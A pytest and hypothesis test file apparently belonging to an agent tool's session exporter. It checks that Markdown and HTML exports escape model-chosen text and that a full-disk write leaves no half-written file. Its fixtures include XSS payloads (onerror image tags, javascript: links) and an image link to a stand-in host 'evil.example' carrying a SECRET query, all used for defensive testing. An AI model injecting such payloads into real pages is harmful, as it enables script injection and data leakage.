"""Exports as a reader's viewer shows them: the Markdown file rendered by a permissive Markdown viewer
(raw HTML on, as GitHub and most editors allow some) and the HTML file, both read by Python's
html.parser. Nothing the model chose may become a tag, an attribute, a link or an image; the HTML
renders the model's Markdown; a mid-session check is an event, not the result; a full disk never
tears an export."""

from __future__ import annotations

import os
import resource
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

from hypothesis import example, given, settings
from hypothesis import strategies as st

from loopagent.messages import AssistantMessage, SystemMessage, ToolCall, ToolResult, UserMessage, to_record
from loopagent.session import SessionWriter, header
from tests.conftest import clean_env

XSS = "<img src=x onerror=alert(1)>"
JS = "[click](javascript:alert(2))"
CALL_ID = f"call_{XSS}{JS}"
TOOL = f"sh`ell {XSS}` {JS}"
MD_REPLY = f"""## Plan

Some **bold** words, a [safe link](https://example.com/doc), a [bad one](javascript:alert(3)),
{XSS} and ![pixel](http://evil.example/p.png?q=SECRET).

```python
print("<script>hi</script>")
```

| file | lines |
|------|-------|
| a.py | 3 |
"""
# Tags a transcript may hold in a viewer: Markdown's own and the export's <details> folds.
ALLOWED = {"h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote",
           "details", "summary", "table", "thead", "tbody", "tr", "th", "td", "hr", "br", "s", "del"}


class Page(HTMLParser):
    """Every tag with its attributes, and the text, each piece with the tags it sits in."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.texts: list[tuple[tuple[str, ...], str]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in ("meta", "br", "hr", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        if tag in self.open:
            del self.open[len(self.open) - 1 - self.open[::-1].index(tag):]

    def handle_data(self, data):
        self.texts.append((tuple(self.open), data))

    @property
    def names(self) -> set[str]:
        return {tag for tag, _ in self.tags}

    def text(self) -> str:
        return "".join(text for _, text in self.texts)

    def inside(self, tag: str) -> str:
        return "".join(text for where, text in self.texts if tag in where)


def viewed(markdown: str) -> Page:
    """What a permissive Markdown viewer makes of `markdown` (raw HTML allowed, tables on)."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True  # a naive viewer: markdown-it's own drops javascript: links
    return Page(md.render(markdown))


def assert_inert(page: Page) -> None:
    assert page.names <= ALLOWED, page.names - ALLOWED
    for _, attrs in page.tags:  # a fenced block's language is the only attribute
        assert set(attrs) <= {"class", "style"}, attrs


def write_session(path: Path, messages: list, after: dict[int, list[dict]]) -> Path:
    """A session file through the real writer: `after[i]` are the records written after message i."""
    writer = SessionWriter.create(path, header(path.stem, path.parent, "m", "http://127.0.0.1:1/v1", "notes"))
    for index, message in enumerate(messages):
        writer.write({"type": "message", "index": index, **to_record(message)})
        for record in after.get(index, []):
            writer.write(record)
    writer.close()
    return path


def hostile_session(path: Path, end: dict | None = None) -> Path:
    call = ToolCall(CALL_ID, TOOL, '{"command": "pytest -q", "x": "' + XSS.replace('"', "") + '"}')
    messages = [SystemMessage("sys"), UserMessage(f"write the notes {XSS} {JS}"),
                AssistantMessage(text=MD_REPLY, tool_calls=(call,), stop_reason="tool_calls"),
                ToolResult.error(f"no tool named {TOOL}").answering(call),
                UserMessage("fix it"), AssistantMessage(text="Fixed.")]
    mid_check = {"type": "check", "command": "pytest -q", "passed": False, "exit_code": 1, "attempt": 1,
                 "output": "1 failed <b>x</b>", "seconds": 0.5, "timed_out": False, "time": "t"}
    end = end or {"type": "end", "status": "completed", "steps": 1, "message": "", "time": "t",
                  "usage": {"prompt_tokens": 5, "completion_tokens": 1}}
    return write_session(path, messages, {3: [mid_check], 5: [end]})


def test_markdown_export_escapes_what_the_model_chose(tmp_path):
    from loopagent.export import export

    # the viewer and the check are live: the form the export had before turns the id into a tag and a link
    before = viewed(f"**call** `{TOOL}` ({CALL_ID})\n")
    assert "img" in before.names and ("a", {"href": "javascript:alert(2)"}) in before.tags

    md = export(hostile_session(tmp_path / "s.jsonl"), "md")
    page = viewed(md)
    assert_inert(page)
    shown = page.text()
    assert CALL_ID in shown and TOOL in shown and XSS in shown and JS in shown  # shown as written, only inert
    assert page.inside("h2").count("Plan") == 1 and "bold" in page.inside("strong")  # the model's Markdown stays
    assert 'print("<script>hi</script>")' in page.inside("pre") and "a.py" in page.inside("td")


# Pieces of Markdown and HTML syntax: whole links, images, definitions and tags, and what could
# break an escape around them (backslashes, backticks, fences, containers, entities).
FRAGMENTS = ["[", "]", "(", ")", "<", ">", "!", "`", "``", "```", "~~~", "\\", "*", "_", "|", "&", ":", "\n",
             "\n\n", " ", "    ", "- ", "> ", "1. ", "#", "r", "[r]", "[r]: http://e.x/r\n", "[a](http://e.x/a)",
             "![i](http://e.x/i.png)", "<http://e.x/auto>", "<img src=x onerror=a>", "<a href=javascript:x>",
             "javascript:x", "&#91;", "&lt;", '"']


@settings(max_examples=120, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join))
@example("> [r]: http://e.x/r\n\n[r]")  # a definition inside a container: the old escape missed it
@example("- [r]: http://e.x/r\n\n![r]")
@example("[r\n]: http://e.x/r\n\n[r\n]")  # a label across lines
@example("\\[a](http://e.x) \\\\[b](http://e.x) `x`[c](http://e.x)")
def test_no_model_text_becomes_a_tag_or_a_link_in_any_position(text):
    from loopagent.export.markdown import code, inline, prose

    for markdown in (prose(text), f"- **task**: {inline(text)}", f"**call** {code(text)} ({code(text)})"):
        assert_inert(viewed(markdown))


def test_html_export_renders_markdown_and_keeps_a_mid_session_check_in_the_timeline(tmp_path):
    from loopagent.export import export

    raw = export(hostile_session(tmp_path / "s.jsonl"), "html")
    page = Page(raw)
    reply = [(tag, attrs) for tag, attrs in page.tags if tag in ("h2", "strong", "pre", "code", "table", "th", "td")]
    assert {tag for tag, _ in reply} == {"h2", "strong", "pre", "code", "table", "th", "td"}
    assert "Plan" in page.inside("h2") and "bold" in page.inside("strong") and "a.py" in page.inside("td")
    assert 'print("<script>hi</script>")' in page.inside("code")  # the code block, as text
    assert "script" not in page.names and "img" not in page.names and "iframe" not in page.names
    for tag, attrs in page.tags:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        assert not [v for v in attrs.values() if v and "javascript:" in v.lower()], (tag, attrs)
    # the model's http(s) links stay links (an image is only a link to it: nothing is fetched)
    assert [attrs["href"] for tag, attrs in page.tags if tag == "a"] == [
        "https://example.com/doc", "http://evil.example/p.png?q=SECRET"]
    assert {attrs["rel"] for tag, attrs in page.tags if tag == "a"} == {"noopener noreferrer nofollow"}
    text = page.text()
    assert XSS in text and "[bad one](javascript:alert(3))" in text and CALL_ID in text

    # the /check is an event between the messages; the result is the run's status, not that check
    check, fix, result = text.index("check failed: pytest -q (exit 1"), text.index("fix it"), text.index("Result")
    assert check < fix < result and "check" not in text[result:]
    assert "1 failed <b>x</b>" in page.inside("details")  # its output folded where it ran
    assert "after 1 step" in text and "1 steps" not in text and "2 model replies, 1 tool call (1 failed)" in text

    md = export(tmp_path / "s.jsonl", "md")
    assert md.index("> check failed: pytest -q") < md.index("fix it") < md.index("## Result")
    assert "check" not in md[md.index("## Result"):] and "after 1 step\n" in md


def test_the_result_names_the_check_the_run_ended_on(tmp_path):
    from loopagent.export import export

    end = {"type": "end", "status": "completed", "steps": 2, "message": "", "time": "t",
           "usage": {"prompt_tokens": 5, "completion_tokens": 1},
           "check": {"command": "pytest -q", "passed": True, "attempts": 2}}
    path = hostile_session(tmp_path / "s.jsonl", end)
    for fmt in ("md", "html"):
        out = export(path, fmt)
        result = out[out.index("Result"):]
        assert "check passed: pytest -q (2 runs)" in result and "after 2 steps" in out, fmt


def test_an_export_onto_a_full_disk_leaves_the_old_file_whole(run_loop, tmp_path, loop_home):
    session = write_session(tmp_path / "big.jsonl", [SystemMessage("s"), UserMessage("word " * 40_000)], {})
    target = tmp_path / "out" / "notes.md"
    target.parent.mkdir()
    target.write_text("OLD NOTES\n")
    target.chmod(0o640)
    cap = 16 * 1024  # the file-size limit stands in for a full disk: the write fails part-way with EFBIG

    def capped() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (cap, cap))

    torn = tmp_path / "out" / "torn.md"  # the fault is real: a plain write under it leaves half a file
    torn.write_text("OLD NOTES\n")
    subprocess.run([sys.executable, "-c", f"import pathlib; pathlib.Path({str(torn)!r}).write_text('y' * 100_000)"],
                   preexec_fn=capped, capture_output=True, timeout=30)
    assert torn.stat().st_size == cap
    torn.unlink()

    proc = subprocess.run([sys.executable, "-m", "loopagent", "export", str(session), "-o", str(target)],
                          env=clean_env(loop_home), preexec_fn=capped, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1 and proc.stderr == f"loop: cannot write {target}: file too large\n"
    assert target.read_text() == "OLD NOTES\n" and os.listdir(target.parent) == ["notes.md"]  # no temporary left

    done = run_loop("export", str(session), "-o", str(target))
    assert done.returncode == 0 and done.stderr == f"wrote {target}\n"
    assert target.read_text().startswith("# Session big") and target.stat().st_size > 200_000
    assert target.stat().st_mode & 0o777 == 0o640 and os.listdir(target.parent) == ["notes.md"]


def test_whole_writes_go_through_links_and_into_devices(tmp_path):
    from loopagent.export import write_whole

    target, link = tmp_path / "notes.md", tmp_path / "link.md"
    target.write_text("old")
    link.symlink_to(target)
    write_whole(link, "new")  # written through, not replaced by a file
    assert link.is_symlink() and target.read_text() == "new" and sorted(os.listdir(tmp_path)) == ["link.md", "notes.md"]
    write_whole(Path("/dev/null"), "gone")  # a device (`-o /dev/stdout`): written to, nothing renamed over it
    assert Path("/dev/null").is_char_device()
